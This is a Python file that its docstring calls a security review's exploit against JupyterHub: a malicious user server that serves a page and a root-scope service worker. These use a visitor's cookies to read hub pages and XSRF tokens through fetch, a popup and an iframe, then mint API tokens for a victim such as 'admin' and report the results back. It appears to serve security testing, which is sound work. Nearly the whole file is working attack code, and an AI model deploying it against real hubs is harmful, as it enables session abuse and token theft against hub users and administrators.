"""A user's server that attacks whoever opens it (the security review's exploit).

Started as a hub's spawner command (it listens where JUPYTERHUB_SERVICE_URL says). Any
GET answers a page whose script, run with the visitor's cookies, tries what a server
of a user could do to the hub on the visitor's behalf: read a hub page (and its XSRF
token) with fetch(), mint an API token for the visitor, read a hub page opened with
window.open() or in a frame. It writes what it got into #result as JSON, and sets the
title to "done". `?hub=<origin>` names the hub's origin (per-user origins);
`?victim=<name>` the visitor whose token it asks for.

`?worker=watch|preload` instead registers a service worker of scope `/` (its script,
`sw.js`, is sent with `Service-Worker-Allowed: /`): `watch` reads the XSRF token of
every request a hub page makes, `preload` reads hub pages through navigation
preload; either mints with what it finds. The worker reports what it saw to
`report`, listed as JSON at `reports` (`reports?clear=1` empties the list).
"""

from __future__ import annotations

import json
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

PAGE = b"""<!doctype html>
<html><head><title>evil</title></head><body><pre id="result"></pre><script>
const params = new URLSearchParams(location.search);
const hub = params.get("hub") || "";
const victim = params.get("victim") || "admin";
const out = {};
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const tokenIn = (html) => {
  const m = /name="xsrf-token" content="([^"]+)"/.exec(html || "");
  return m ? m[1] : null;
};
async function readFetched() {
  try {
    const r = await fetch(hub + "/hub/home", { credentials: "include" });
    out.fetch_url = r.url;
    const text = await r.text();
    out.fetch_xsrf = tokenIn(text);
    out.fetch_is_login = text.includes('name="username"');
  } catch (e) {
    out.fetch_error = String(e);
  }
}
async function mint(xsrf) {
  try {
    const r = await fetch(hub + "/hub/api/users/" + victim + "/tokens", {
      method: "POST", credentials: "include",
      headers: { "Content-Type": "application/json", "X-XSRFToken": xsrf || "" },
      body: JSON.stringify({ note: "stolen" }),
    });
    out.mint_status = r.status;
    out.mint_body = await r.text();
  } catch (e) {
    out.mint_error = String(e);
  }
}
async function readWindow(win, key) {
  for (let i = 0; i < 50; i++) {
    await sleep(100);
    try {
      const doc = win.document;
      if (doc && doc.readyState === "complete" && doc.location.pathname.startsWith("/hub/")) {
        out[key + "_xsrf"] = tokenIn(doc.documentElement.outerHTML);
        return;
      }
    } catch (e) {
      out[key + "_error"] = String(e);
      return;
    }
  }
  out[key + "_error"] = "never readable (closed: " + win.closed + ")";
}
async function register(mode) {
  const script = "sw.js?victim=" + victim + "&mode=" + mode;
  await navigator.serviceWorker.register(script, { scope: "/" });
  await navigator.serviceWorker.ready;
  document.title = "done";
}
async function main() {
  if (params.get("worker")) return register(params.get("worker"));
  await readFetched();
  await mint(out.fetch_xsrf);
  const popup = window.open(hub + "/hub/home", "hubpopup");
  out.popup_opened = popup !== null;
  if (popup) await readWindow(popup, "popup");
  const frame = document.createElement("iframe");
  frame.src = hub + "/hub/home";
  document.body.appendChild(frame);
  await sleep(500);
  await readWindow(frame.contentWindow, "frame");
  const stolen = out.popup_xsrf || out.frame_xsrf;
  if (stolen) await mint(stolen);
  document.getElementById("result").textContent = JSON.stringify(out);
  document.title = "done";
}
main();
</script></body></html>
"""


WORKER = b"""
const params = new URL(self.location).searchParams;
const victim = params.get("victim");
const mode = params.get("mode");
const base = new URL(".", self.location).pathname;
const report = (data) => fetch(base + "report?data=" + encodeURIComponent(JSON.stringify(data)));
async function steal(token, via) {
  const r = await fetch("/hub/api/users/" + victim + "/tokens", {
    method: "POST",
    headers: { "Content-Type": "application/json", "X-XSRFToken": token },
    body: JSON.stringify({ note: "stolen" }),
  });
  await report({ mint: r.status, via });
}
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil((async () => {
  if (mode === "preload" && self.registration.navigationPreload) {
    await self.registration.navigationPreload.enable();
  }
  await self.clients.claim();
})()));
self.addEventListener("fetch", (event) => {
  const url = new URL(event.request.url);
  if (!url.pathname.startsWith("/hub/")) return;
  if (event.request.mode === "navigate") {
    if (mode !== "preload") return;
    event.respondWith((async () => {
      const preloaded = await event.preloadResponse;
      const response = preloaded || (await fetch(event.request));
      const text = await response.clone().text();
      const m = /name="xsrf-token" content="([^"]+)"/.exec(text);
      await report({ url: url.pathname, via: "navigation", preloaded: !!preloaded, token: !!m });
      if (m) await steal(m[1], "preload");
      return response;
    })());
    return;
  }
  const token = event.request.headers.get("X-XSRFToken");
  event.waitUntil((async () => {
    await report({ url: url.pathname, via: "fetch", token: !!token });
    if (token) await steal(token, "header");
  })());
});
"""

REPORTS: list[object] = []


class Handler(BaseHTTPRequestHandler):
    """The page for any GET (the hub's readiness check included); the worker, its
    reports."""

    def do_GET(self) -> None:
        url = urlsplit(self.path)
        body, kind, extra = PAGE, "text/html", {}
        if url.path.endswith("/sw.js"):
            body, kind = WORKER, "text/javascript"
            extra = {"Service-Worker-Allowed": "/"}
        elif url.path.endswith("/report"):
            REPORTS.append(json.loads(parse_qs(url.query)["data"][0]))
            body, kind = b"{}", "application/json"
        elif url.path.endswith("/reports"):
            body, kind = json.dumps(REPORTS).encode(), "application/json"
            if "clear" in parse_qs(url.query):
                REPORTS.clear()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Cache-Control", "no-store")
        for name, value in extra.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Silent."""


def main() -> None:
    url = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
    ThreadingHTTPServer((url.hostname or "127.0.0.1", url.port or 8888), Handler).serve_forever()


if __name__ == "__main__":
    main()
